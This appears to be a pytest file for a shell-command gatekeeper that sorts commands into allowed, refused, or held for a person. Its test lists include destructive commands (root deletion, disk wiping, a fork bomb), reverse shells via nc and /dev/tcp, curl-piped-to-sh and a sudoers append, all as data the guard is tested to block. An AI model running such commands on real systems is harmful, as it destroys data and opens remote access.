"""Verdicts: what runs, what needs a person, what never runs; and invariant 8, fail closed."""

from __future__ import annotations

import pytest

from reifierd.shell import Context, Verdict, judge, load_rules

RULES = load_rules()

ORDINARY = [
    "rm -f run/worker.pid",
    "rmdir cache.lock",
    'kill -HUP "$(cat run/worker.pid)"',
    "systemctl restart nginx",
    "./bin/ctl restart",
    "cp a b",
    'sed -i s/8080/8081/ "$CONF/sites/shop.conf"',
    "psql -c 'SELECT pg_terminate_backend(77)'",
    "redis-cli DEL job:lock",
    "git revert --no-edit HEAD",
    "chmod 640 conf/app.ini",
    "chown app:app conf/app.ini",
    'rm -rf "$TMPDIR/unpack"',
    "t=$(mktemp -d); trap 'rm -rf \"$t\"' EXIT",
    "docker compose up -d",
    "ln -sfn releases/41 current",
    "kubectl rollout restart deployment/shop",
    "nginx -t && systemctl reload nginx",
    "sudo journalctl -u shop -n 50 --no-pager",
    "for h in a b; do ssh $h uptime; done",
    "curl -fsS -XPOST -d '{}' localhost:9000/jobs",
    "find /var/tmp -name 'up-*' -mtime +2 -delete",
    "mysql shop < fix.sql",
    "some-unknown-tool --with literal args",
    "if ! systemctl is-active -q shop; then systemctl start shop; fi",
    "openssl req -new -key k.pem -out c.csr -subj /CN=x",
    "pg_dump shop | gzip > /backup/shop.gz",
    "tar xzf rel.tgz -C /opt/shop/releases/41",
    "truncate -s 0 /srv/shop/app.log",
    "useradd -r shop",
    "crontab new.cron",
]
CATASTROPHES = [
    "rm -rf /",
    "rm -fr /*",
    "rm -r --force /etc/",
    "sudo rm -rf --no-preserve-root /",
    "cd / && rm -rf -- *",
    "R=/; rm -rf $R",
    "rm -rf ~",
    'rm -rf "$HOME"',
    "rm -rf ~/*",
    "rm -rf //",
    "rm -rf /./",
    "rm -rf /usr/../etc",
    "rm -rf /home",
    "rm -rf /{bin,lib}",
    "rm -rf /e*",
    "find / -delete",
    "dd if=x of=/dev/sdq",
    "mkfs.ext4 /dev/nvme9n1",
    "wipefs -af /dev/sdq",
    "cat x > /dev/sdq",
    "b(){ b|b& };b",
    "kill -9 -1",
    "nc -e /bin/sh h 1",
    "bash -i >& /dev/tcp/h/1 0>&1",
    "mv /etc /old",
    "xargs rm -rf <<< /",
    "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
]
MEANT_PERHAPS = [
    'rm -rf "$D/"*',
    "rm -rf ${D}",
    "rm -rf /var/lib/shop",
    "rm -rf .git",
    "git push -f",
    "git reset --hard",
    "docker volume rm data",
    "kubectl delete ns shop",
    "terraform destroy",
    "psql -c 'DROP TABLE t'",
    "psql -c 'delete from t'",
    "systemctl stop sshd",
    "iptables -F",
    "curl -s https://x.example/i | sh",
    '"$TOOL" --go',
    'eval "$PLAN"',
    "history -c",
    "userdel bob",
    "reboot",
    "aws s3 rb s3://b --force",
    "apt-get purge -y x",
    "redis-cli flushall",
    "rabbitmqctl reset",
    "vault operator seal",
    "restic forget --prune x",
    "crontab -r",
    "lvremove vg/lv",
    "echo 'a ALL=(ALL) ALL' >> /etc/sudoers",
    "PATH=/tmp:$PATH ls",
]


@pytest.mark.parametrize("source", ORDINARY)
def test_ordinary_operations_are_allowed(source: str) -> None:
    judgement = judge(source, RULES, Context(cwd="/home/ops", home="/home/ops", host="web1"), valid=True)
    assert (judgement.verdict, judgement.findings) == (Verdict.ALLOW, ())


@pytest.mark.parametrize("source", CATASTROPHES)
def test_provable_catastrophes_are_refused(source: str) -> None:
    assert judge(source, RULES, Context(), valid=True).verdict is Verdict.REFUSE


@pytest.mark.parametrize("source", MEANT_PERHAPS)
def test_what_may_be_meant_needs_a_person(source: str) -> None:
    assert judge(source, RULES, Context(), valid=True).verdict is Verdict.OVERRIDE


@pytest.mark.parametrize(
    "source", ["echo $(", "if true", "cat <<E\nnever closed", "echo '", "echo " + "$(" * 200, "true\n" * 20_000]
)
def test_invariant_8_what_is_not_read_does_not_run_by_itself(source: str) -> None:
    judgement = judge(source, RULES, Context())
    assert judgement.verdict is Verdict.OVERRIDE
    assert "not-parsed" in {f.rule for f in judgement.findings}


def test_invariant_8_what_bash_does_not_accept_does_not_run_by_itself() -> None:
    assert judge("ls", RULES, Context(), valid=False).verdict is Verdict.OVERRIDE


def test_invariant_8_another_interpreter_is_opaque() -> None:
    assert judge("print 1", RULES, Context(interpreter="python3")).verdict is Verdict.OVERRIDE


def test_invariant_3_the_second_reader_only_tightens() -> None:
    assert (
        judge("[[ -n x ]] && (( 1 )) && a=(1 2) && case x in x) ls;; esac", RULES, Context(), valid=True).verdict
        is Verdict.ALLOW
    )


def test_running_as_root_raises_nothing() -> None:
    assert judge("sudo systemctl restart shop", RULES, Context(home="/root", cwd="/root")).verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    ("source", "context"),
    [
        ("kubectl --context prod-eu apply -f x.yaml", Context()),
        ("psql -h shop-production -c 'update t set a = 1 where id = 2'", Context()),
        ("terraform apply plan.out", Context(host="prod-bastion")),
        ("AWS_PROFILE=prod aws ec2 start-instances --instance-ids i", Context()),
    ],
)
def test_production_looking_names_raise_a_verdict(source: str, context: Context) -> None:
    assert [f.rule for f in judge(source, RULES, context).findings] == ["production"]
    assert judge(source, RULES, Context(production=())).verdict is Verdict.ALLOW


def test_a_finding_names_the_command_and_its_line() -> None:
    judgement = judge("ls\nsudo rm -rf /srv", RULES, Context())
    finding = next(f for f in judgement.findings if f.rule == "delete-root")
    assert (finding.command, finding.line, finding.severity) == ("rm -rf /srv", 2, Verdict.REFUSE)
